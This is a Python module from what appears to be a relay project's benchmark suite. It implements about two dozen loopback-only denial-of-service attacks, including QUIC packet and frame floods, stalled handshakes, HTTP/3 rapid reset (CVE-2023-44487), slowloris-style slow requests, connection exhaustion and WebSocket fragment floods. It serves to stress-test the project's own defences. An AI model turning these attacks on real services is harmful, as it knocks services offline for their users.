"""Attacks: what a stranger with one machine can do to a relay, each alone, bounded in rate, count and time.

`python -m interop.bench.attack.attacks NAME QUIC-ADDRESS PAGE-ADDRESS PIN DEVICE --seconds N`. They go to loopback
addresses only. Attackers come from addresses of 127.0.0.0/8 that honest people do not have, one or many as each attack
says.
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import random
import socket
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

from aioquic.h3.connection import H3Connection
from websockets.client import ClientProtocol
from websockets.uri import parse_uri

from avl_protocol.crypto.identity import Identity
from avl_protocol.endpoint.loop.clock import entropy
from avl_protocol.endpoint.loop.runtime import run
from avl_protocol.endpoint.tcp.websocket import SUBPROTOCOL
from avl_protocol.endpoint.tls import TrustPinned, client_context
from avl_protocol.endpoint.udp.network import Address
from avl_protocol.endpoint.udp.sockets import UdpNetwork
from avl_protocol.session.hop.stream import hop_bytes
from avl_protocol.wire.messages import Attach, Ping
from avl_protocol.wire.target import parse_address, parse_pin
from interop.bench.attack.forge import Forged, client, frame
from interop.bench.attack.hops import CLOCK, FAILURES, Hop, endpoint_at, host, viewer

#: The address of whoever has one; of whoever has many, the first bytes.
ONE, MANY = "127.66.0.1", "127.67"
#: Connections that one attacker process may hold, whatever the attack: it must not run out of descriptors itself.
MOST = 2200
#: Times a second that a flood is sent, and Initials that are made beforehand.
TICKS, MADE = 200, 600
#: Datagrams of one size that leave at once.
RUN = 50
#: The largest file of the page.
LARGE = "/vendor/zstddec/zstddec.mjs"
#: What is printed when all is prepared.
BEGINS = "the attack begins"


@dataclass(frozen=True, slots=True, kw_only=True)
class Aim:
    """Who is attacked, and until when (CLOCK_MONOTONIC)."""

    quic: Address
    page: Address
    pin: bytes
    device: int
    until: float
    #: What was made beforehand.
    packets: tuple[bytes, ...] = ()

    @property
    def over(self) -> bool:
        """Whether it is time to stop."""
        return time.monotonic() >= self.until


async def flood(aim: Aim, per_second: float, send: Callable[[int], object]) -> None:
    """Call `send(count)` so that `per_second` are sent, until it is time to stop; what can't be sent in time is not."""
    due = 0.0
    while not aim.over:
        began = time.monotonic()
        due += per_second / TICKS
        if due >= 1:
            send(int(due))
            due -= int(due)
        await asyncio.sleep(max(0.0, 1 / TICKS - (time.monotonic() - began)))


async def last(aim: Aim) -> None:
    """Hold what is held."""
    await asyncio.sleep(max(0.0, aim.until - time.monotonic()))


def address(number: int) -> str:
    """One of many: 50 in each network of 256."""
    return f"{MANY}.{number // 50 % 250}.{1 + number % 50}"


# datagrams


def sockets(count: int) -> list[socket.socket]:
    """UDP sockets at as many addresses."""
    made = []
    for number in range(count):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setblocking(False)
        one.bind((address(number), 0))
        made.append(one)
    return made


async def throw(aim: Aim, datagrams: list[bytes], per_second: int, sources: int) -> None:
    """Send datagrams again and again from many addresses."""
    made = sockets(sources)
    number = 0

    def send(count: int) -> None:
        nonlocal number
        for _ in range(count):
            number += 1
            with suppress(OSError):
                made[number % len(made)].sendto(datagrams[number % len(datagrams)], aim.quic)

    await flood(aim, per_second, send)


def initial() -> bytes:
    """A client's first packet, as it should be."""
    made = client()
    now = CLOCK.monotonic()
    made.connect(("127.0.0.1", 1), now)
    return made.datagrams_to_send(now)[0][0]


async def initials(aim: Aim) -> None:
    """20,000 first packets a second, each from another of 200 addresses, none followed by a second."""
    await throw(aim, list(aim.packets), 20_000, 200)


async def garbage(aim: Aim) -> None:
    """50,000 datagrams a second that are nothing, half of them in the form of packets; the system sends 50 of a size at
    once."""
    chance = random.Random(1)
    runs = []
    for _ in range(MADE // 10):
        first, size = bytes([chance.choice((0x40, 0xC0, 0x00))]), chance.randrange(20, 1200)
        runs.append([(first + chance.randbytes(size), aim.quic)] * RUN)
    network = UdpNetwork()
    made = [network.bind((address(number), 0)) for number in range(200)]
    number = 0

    def send(count: int) -> None:
        nonlocal number
        for _ in range(count):
            number += 1
            made[number % len(made)].send_batch(runs[number % len(runs)])

    await flood(aim, 50_000 / RUN, send)


async def handshakes(aim: Aim) -> None:
    """500 handshakes at a time of 500 addresses in ten networks that go as far as proving the address, and no further;
    begun again when the relay gives them up."""

    async def stall(number: int) -> None:
        while not aim.over:
            forged = Forged(address(number), aim.quic)
            forged.stalls = True
            await forged.dial(5.2)
            forged.close()

    await asyncio.gather(*(stall(number) for number in range(500)))


# packets of those who are connected


async def forged_some(aim: Aim, strangers: int, hosts: int, attack: Callable[[Forged], Awaitable[None]]) -> None:
    """Connect as so many strangers and as so many hosts that have registered, and attack on each; again when it is
    closed."""

    async def one(source: str, registers: bool) -> None:
        while not aim.over:
            hop = host(aim.pin, Identity(entropy(32))) if registers else viewer(aim.pin)
            forged = Forged(source, aim.quic, hop=hop)
            try:
                if await forged.dial(2.0):
                    async with asyncio.timeout(2.0):
                        await hop.up
                    await attack(forged)
            except FAILURES:
                pass
            finally:
                forged.close()
            await asyncio.sleep(0.05)

    places = [(address(number), False) for number in range(strangers)]
    await asyncio.gather(*(one(*place) for place in places + [(ONE, True)] * hosts))


def frames(per_second: int, fill: Callable[[Forged, int], bytes]) -> Callable[[Aim], Awaitable[None]]:
    """Five strangers and three hosts, each of which sends `per_second` packets that are full of something.
    `fill(forged, room)`: the frames of one packet."""

    async def attack(aim: Aim) -> None:
        async def one(forged: Forged) -> None:
            def send(count: int) -> None:
                for _ in range(count):
                    if not forged.throw(fill(forged, forged.room)):
                        raise ConnectionResetError

            await flood(aim, per_second, send)

        await forged_some(aim, 5, 3, one)

    return attack


def full(frame: bytes) -> Callable[[Forged, int], bytes]:
    """A packet of nothing but one frame."""
    return lambda forged, room: frame * (room // len(frame))


def new_identifiers(forged: Forged, room: int) -> bytes:
    """Connection IDs, each of which retires all before it."""
    out = b""
    while len(out) < room - 40:
        forged.thrown += 1
        number = 100 + forged.thrown
        out += frame(0x18, number, number, b"\x08" + entropy(8) + entropy(16))
    return out


quic_pings = frames(500, full(frame(0x01)))
empty_datagrams = frames(500, full(frame(0x31, 0)))
windows = frames(500, full(frame(0x10, 1)))
acknowledgements = frames(500, full(frame(0x02, 0, 0, 0, 0)))
identifiers = frames(500, new_identifiers)


async def resets(aim: Aim) -> None:
    """Five strangers and three hosts that open streams and abandon them, as fast as they are let."""

    async def one(forged: Forged) -> None:
        connection = forged.connection
        while not aim.over and not connection.ended:
            for _ in range(60):
                stream = connection.open_stream()
                connection.write_stream(stream, b"")
                connection.abandon_stream(stream, 0)
            forged.serve()
            while connection.open_streams > 20 and not aim.over and not connection.ended:
                await asyncio.sleep(0.001)

    await forged_some(aim, 5, 3, one)


async def sparse(aim: Aim) -> None:
    """320 strangers of ten networks that send the last byte that each of their windows allows, and none before it."""

    async def one(forged: Forged) -> None:
        for number, most in enumerate((63, 63, 33), 1):  # 160 KiB are what the whole connection may hold
            forged.throw(frame(0x0E, 4 * number, (most << 10) - 1, 1, b"x"))
        await last(aim)

    await forged_some(aim, 320, 0, one)


async def moves(aim: Aim) -> None:
    """Five strangers and three hosts whose address is another one with every packet."""

    async def one(forged: Forged) -> None:
        forged.move_to([f"{MANY}.{200 + number // 200}.{1 + number % 200}" for number in range(50)])

        def send(count: int) -> None:
            for _ in range(count):
                forged.thrown += 1
                if not forged.throw(frame(0x01) + bytes(1000), forged.thrown % len(forged.sockets)):
                    raise ConnectionResetError

        await flood(aim, 1000, send)

    await forged_some(aim, 5, 3, one)


async def pings(aim: Aim) -> None:
    """Three hops of one address on which PING is said 86,000 times a second, and again when they are closed."""

    async def one() -> None:
        while not aim.over:
            endpoint = await endpoint_at(ONE)
            with suppress(*FAILURES):
                hop = viewer(aim.pin)
                await hop.dial(aim.quic, endpoint)
                said = hop_bytes(Ping(7))

                def send(count: int, hop: Hop = hop, said: bytes = said) -> None:
                    if hop.hop.carrier.stream_backlog(0) < 256 << 10:
                        hop.hop.carrier.send_stream(0, said * count)

                flooding = asyncio.ensure_future(flood(aim, 29_000, send))
                waiting: set[asyncio.Future[Any]] = {flooding, hop.lost}
                await asyncio.wait(waiting, return_when=asyncio.FIRST_COMPLETED)
                flooding.cancel()
            await endpoint.close()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(one() for _ in range(3)))


async def established(aim: Aim, count: int, sources: int, make: Callable[[], Hop]) -> None:
    """Open hops, eight at a time, and hold them; begin again with those that were refused."""
    endpoints = [await endpoint_at(ONE if sources == 1 else address(number)) for number in range(sources)]

    async def open_some(first: int) -> None:
        for number in range(first, count, 8):
            if aim.over:
                return
            with suppress(*FAILURES):
                await make().dial(aim.quic, endpoints[number % sources], 2.0)

    await asyncio.gather(*(open_some(first) for first in range(8)))
    await last(aim)


async def hops(aim: Aim) -> None:
    """400 hops of one address that say HELLO and then nothing."""
    await established(aim, 400, 1, lambda: viewer(aim.pin))


async def hops_of_many(aim: Aim) -> None:
    """1,500 of the same from 500 addresses of ten networks."""
    await established(aim, 1500, 500, lambda: viewer(aim.pin))


async def registrations(aim: Aim) -> None:
    """400 hosts of one address, each with an identity of its own."""
    await established(aim, 400, 1, lambda: host(aim.pin, Identity(entropy(32))))


async def attaches(aim: Aim) -> None:
    """Ten addresses that ask for the device of the sessions, fail at its handshake, as often as they are let."""
    endpoints = [await endpoint_at(address(50 * number)) for number in range(10)]

    async def ask(endpoint: object) -> None:
        while not aim.over:
            with suppress(*FAILURES):
                hop = viewer(aim.pin)
                await hop.dial(aim.quic, endpoint)  # type: ignore[arg-type]
                hop.hop.send(Attach(aim.device.to_bytes(17, "big"), entropy(16)))
                async with asyncio.timeout(1.0):
                    await hop.lost

    await asyncio.gather(*(ask(endpoint) for endpoint in endpoints))


# TCP


async def opened(aim: Aim, to: Address, source: str, data: bytes = b"", tls: bool = False) -> asyncio.StreamWriter:
    """A TCP connection on which `data` was said. Raises OSError."""
    async with asyncio.timeout(5.0):
        _, writer = await asyncio.open_connection(
            *to,
            local_addr=(source, 0),
            ssl=client_context(TrustPinned()) if tls else None,
            server_hostname="localhost" if tls else None,
        )
    writer.write(data)
    return writer


def upgrade(to: Address, tls: bool) -> bytes:
    """The request for a WebSocket."""
    http = ClientProtocol(parse_uri(f"{'wss' if tls else 'ws'}://127.0.0.1:{to[1]}/avl/1"), subprotocols=[SUBPROTOCOL])
    http.send_request(http.connect())
    return b"".join(http.data_to_send())


async def fragments(aim: Aim, connections: int = 1) -> None:
    """A WebSocket of empty fragments, 78,000 a second, and again when it is closed."""
    # RFC 6455, 5.2: a binary message that is not over, its continuations; all masked, all empty.
    first, more = bytes((0x02, 0x80)) + bytes(4), bytes((0x00, 0x80)) + bytes(4)

    async def one() -> None:
        while not aim.over:
            with suppress(OSError, TimeoutError):
                writer = await opened(aim, aim.quic, ONE, upgrade(aim.quic, True) + first, tls=True)

                def send(count: int, writer: asyncio.StreamWriter = writer) -> None:
                    if writer.transport.is_closing():
                        raise ConnectionResetError
                    if writer.transport.get_write_buffer_size() < 1 << 20:
                        writer.write(more * count)

                await flood(aim, 78_000, send)
                writer.transport.abort()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(one() for _ in range(connections)))


async def fragments_five(aim: Aim) -> None:
    """Five of them."""
    await fragments(aim, 5)


async def page_sockets(aim: Aim) -> None:
    """1,500 WebSockets at the page's port from one address that say nothing."""
    held: list[asyncio.StreamWriter] = []
    for _ in range(min(1500, MOST)):
        if aim.over:
            break
        with suppress(OSError, TimeoutError):
            held.append(await opened(aim, aim.page, ONE, upgrade(aim.page, False)))
    await last(aim)


async def half_requests(aim: Aim) -> None:
    """1,100 connections to the page with half a request each, from one address."""
    held: list[asyncio.StreamWriter] = []
    for _ in range(min(1100, MOST)):
        if aim.over:
            break
        with suppress(OSError, TimeoutError):
            held.append(await opened(aim, aim.page, ONE, b"GET / HTTP/1.1\r\nHost: 127"))
    await last(aim)


async def idle_connections(aim: Aim) -> None:
    """2,000 connections that say nothing, half of them to the page and half to the port for TLS, from ten addresses."""
    held: list[asyncio.StreamWriter] = []

    async def some(first: int) -> None:
        for number in range(first, 2000, 10):
            if aim.over:
                return
            with suppress(OSError, TimeoutError):
                held.append(await opened(aim, (aim.page, aim.quic)[number // 10 % 2], address(50 * first)))

    await asyncio.gather(*(some(first) for first in range(10)))
    await last(aim)


async def slow_requests(aim: Aim) -> None:
    """200 requests of ten addresses whose heads come byte by byte, begun again when they are closed."""
    head = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{aim.page[1]}\r\nX: ".encode()

    async def one(number: int) -> None:
        while not aim.over:
            with suppress(OSError, TimeoutError):
                writer = await opened(aim, aim.page, address(50 * (number % 10)), head)
                while not aim.over and not writer.transport.is_closing():
                    writer.write(b"x")
                    await asyncio.sleep(0.1)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one(number) for number in range(200)))


async def unread_answers(aim: Aim) -> None:
    """32 connections over HTTP/3 of one address that ask for the largest files of the page sixty times and read
    nothing."""

    async def one() -> None:
        forged = Forged(ONE, aim.quic, alpn="h3", window=1024)
        try:
            if not await forged.dial():
                return
            http = H3Connection(forged.connection)
            for _ in range(60):
                ask(http, forged)
            forged.serve()
            await last(aim)
        finally:
            forged.close()

    await asyncio.gather(*(one() for _ in range(32)))


def ask(http: H3Connection, forged: Forged) -> int:
    """Ask for the largest file; the stream."""
    stream = forged.connection.get_next_available_stream_id()
    asked = {":method": "GET", ":scheme": "https", ":authority": "127.0.0.1", ":path": LARGE}
    http.send_headers(stream, [(name.encode(), value.encode()) for name, value in asked.items()], True)
    return stream


async def reset_requests(aim: Aim) -> None:
    """Eight connections over HTTP/3 of one address that ask and take it back at once,
    (CVE-2023-44487)."""

    async def one() -> None:
        while not aim.over:
            forged = Forged(ONE, aim.quic, alpn="h3")
            try:
                if await forged.dial(2.0):
                    http = H3Connection(forged.connection)
                    while not aim.over and not forged.connection.ended:
                        asked = [ask(http, forged) for _ in range(50)]
                        forged.serve()
                        for stream in asked:
                            forged.connection.abandon_stream(stream, 0x10C)
                        forged.serve()
                        while forged.connection.open_streams > 20 and not aim.over and not forged.connection.ended:
                            await asyncio.sleep(0.001)
            finally:
                forged.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(8)))


async def socket_messages(aim: Aim) -> None:
    """Five WebSockets of one address with 40,000 PINGs of WebSocket's own a second, answers unread."""
    ping = bytes((0x89, 0x84)) + bytes(4) + b"ping"  # RFC 6455, 5.5.2

    async def one() -> None:
        while not aim.over:
            with suppress(OSError, TimeoutError):
                writer = await opened(aim, aim.quic, ONE, upgrade(aim.quic, True), tls=True)

                def send(count: int, writer: asyncio.StreamWriter = writer) -> None:
                    if writer.transport.is_closing():
                        raise ConnectionResetError
                    if writer.transport.get_write_buffer_size() < 1 << 20:
                        writer.write(ping * count)

                await flood(aim, 40_000, send)
                writer.transport.abort()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(one() for _ in range(5)))


async def bodies(aim: Aim) -> None:
    """Four requests whose bodies never end, and again when they are closed."""
    head = f"POST / HTTP/1.1\r\nHost: 127.0.0.1:{aim.page[1]}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    piece = b"4000\r\n" + bytes(0x4000) + b"\r\n"

    async def one() -> None:
        while not aim.over:
            with suppress(OSError, TimeoutError):
                writer = await opened(aim, aim.page, ONE, head)
                while not aim.over:
                    writer.write(piece)
                    await writer.drain()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(one() for _ in range(4)))


async def requests(aim: Aim) -> None:
    """Eight connections that ask for the page's files as quickly as they are answered."""
    ask = f"GET /health HTTP/1.1\r\nHost: 127.0.0.1:{aim.page[1]}\r\n\r\n".encode()

    async def one() -> None:
        while not aim.over:
            with suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(*aim.page, local_addr=(ONE, 0))
                while not aim.over:
                    writer.write(ask)
                    if not await reader.read(65536):
                        break
                writer.transport.abort()
            await asyncio.sleep(0)

    await asyncio.gather(*(one() for _ in range(8)))


ATTACKS: dict[str, Callable[[Aim], Awaitable[None]]] = {
    "fragments": fragments,
    "fragments x5": fragments_five,
    "pings": pings,
    "initials": initials,
    "garbage": garbage,
    "handshakes": handshakes,
    "quic pings": quic_pings,
    "empty datagrams": empty_datagrams,
    "windows": windows,
    "acknowledgements": acknowledgements,
    "identifiers": identifiers,
    "resets": resets,
    "sparse": sparse,
    "moves": moves,
    "hops": hops,
    "hops of many": hops_of_many,
    "registrations": registrations,
    "page sockets": page_sockets,
    "half requests": half_requests,
    "idle connections": idle_connections,
    "slow requests": slow_requests,
    "bodies": bodies,
    "unread answers": unread_answers,
    "reset requests": reset_requests,
    "socket messages": socket_messages,
    "requests": requests,
    "attaches": attaches,
}


def raise_descriptors() -> None:
    """An attacker has as many as the system lets it."""
    import resource

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    with suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main() -> None:
    """One attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("quic", type=parse_address)
    parser.add_argument("page", type=parse_address)
    parser.add_argument("pin", type=parse_pin)
    parser.add_argument("device", type=int)
    parser.add_argument("--seconds", type=float, default=6.0)
    chosen = parser.parse_args()
    for target in (chosen.quic, chosen.page):
        if not ipaddress.ip_address(target[0]).is_loopback:
            parser.error("only loopback is attacked")
    raise_descriptors()
    packets = tuple(initial() for _ in range(MADE)) if chosen.name == "initials" else ()
    print(BEGINS, flush=True)
    aim = Aim(
        quic=chosen.quic,
        page=chosen.page,
        pin=chosen.pin,
        device=chosen.device,
        until=time.monotonic() + chosen.seconds,
        packets=packets,
    )

    async def bounded() -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(chosen.seconds + 1):
                await ATTACKS[chosen.name](aim)

    run(bounded())


if __name__ == "__main__":
    main()
